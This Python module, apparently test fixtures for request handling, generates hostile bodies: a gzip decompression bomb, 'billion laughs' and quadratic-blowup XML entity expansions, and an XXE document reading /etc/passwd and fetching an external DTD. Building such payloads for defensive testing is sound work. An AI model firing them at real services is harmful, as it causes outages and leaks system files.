"""Bodies that mean harm."""

from __future__ import annotations

import zlib


def zeros(megabytes: int, head: bytes = b"", fill: bytes = b"\0") -> bytes:
    """Gzip of so many megabytes of one byte behind a head, made without them: one packed piece again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(fill * 10_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + start + piece * (megabytes // 10) + packer.flush() + bytes(8)


def laughs(root: str, inner: str) -> str:
    """A document whose entities multiply to 10 to the power of 9; ``inner`` has one of them, ``&l9;``."""
    levels = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY l0 "lol">{levels}]><{root}>{inner}</{root}>'


def quadratic(root: str, inner: str) -> str:
    """A document with one long entity that is used often; ``inner`` has ``&a;``."""
    words = inner.replace("&a;", "&a;" * 20_000)
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY a "{"x" * 100_000}">]><{root}>{words}</{root}>'


def outside(root: str, inner: str, address: str) -> str:
    """A document with entities of a file and of an address, and definitions from there; ``inner`` has ``&file;``."""
    entities = f'<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "{address}/dtd"> %dtd;'
    return f'<?xml version="1.0"?><!DOCTYPE {root} SYSTEM "{address}/dtd" [{entities}]><{root}>{inner}</{root}>'
